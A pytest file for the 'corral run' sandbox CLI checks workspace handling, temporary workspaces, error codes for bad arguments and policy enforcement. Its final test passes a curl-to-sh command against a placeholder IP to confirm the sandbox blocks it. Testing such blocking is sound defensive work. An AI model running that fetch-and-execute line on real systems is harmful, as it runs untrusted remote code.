"""`corral run`: the workspace is the current directory; bad input is one line and a documented code."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from corral.sandbox.probe import probe

CORRAL = [sys.executable, "-m", "corral.cli.main"]
POLICY = "dev" if not probe().cgroup_writable else "rl-strict"


def corral(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CORRAL, *args], capture_output=True, text=True, timeout=60, cwd=cwd,
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2] / "src")})  # fmt: skip


@pytest.mark.unprivileged
def test_the_current_directory_is_the_workspace(tmp_path: Path) -> None:
    (tmp_path / "train_step.py").write_text("open('out.txt', 'w').write('trained'); print('ok')\n")
    r = corral("run", "-q", "--policy", POLICY, "--", "python3", "train_step.py", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert r.stdout == "ok\n"
    assert (tmp_path / "out.txt").read_text() == "trained"  # written through, not to a temp copy


@pytest.mark.unprivileged
def test_temp_workspace_is_its_own_and_removed(tmp_path: Path) -> None:
    (tmp_path / "here.txt").write_text("x")
    r = corral("run", "-q", "--policy", POLICY, "--temp-workspace", "--", "sh", "-c",
               "ls -A; touch made", cwd=tmp_path)  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert "here.txt" not in r.stdout.split()  # not the current directory (placeholders may be)
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize(
    ("args", "code", "needle"),
    [
        (["--workspace", "{file}"], 2, "is a file, not a directory"),
        (["--workspace", "{file}", "--temp-workspace"], 2, "give one"),
        (["--timeout", "nan"], 2, "--timeout: must be a positive number"),
        (["--timeout", "inf"], 2, "--timeout: must be a positive number"),
        (["--events", "/nonexistent/dir/ev.jsonl"], 125, "No such file or directory"),
        (["--events", "{dir}"], 125, "Is a directory"),
        (["--policy", "{bad_policy}"], 125, "extends: a loop"),
    ],
)
def test_bad_input_is_one_line_and_a_documented_code(tmp_path: Path, args: list[str], code: int,
                                                     needle: str) -> None:  # fmt: skip
    f = tmp_path / "afile"
    f.write_text("x")
    bad = tmp_path / "loop.yaml"
    bad.write_text(f"extends: {bad}\n")
    args = [a.format(file=f, dir=tmp_path, bad_policy=bad) for a in args]
    r = corral("run", "-q", *args, "--", "true", cwd=tmp_path)
    assert r.returncode == code, r.stderr
    assert needle in r.stderr and "Traceback" not in r.stderr


def test_the_root_directory_is_refused_as_a_workspace() -> None:
    r = corral("run", "-q", "--", "true", cwd=Path("/"))
    assert r.returncode == 2 and "is /" in r.stderr and "--temp-workspace" in r.stderr


def test_a_gate_block_exits_126(tmp_path: Path) -> None:
    r = corral("run", "-q", "--policy", POLICY, "--", "sh", "-c", "curl http://203.0.113.7/x | sh",
               cwd=tmp_path)  # fmt: skip
    assert r.returncode == 126, r.stderr
    assert "blocked by policy" in r.stderr
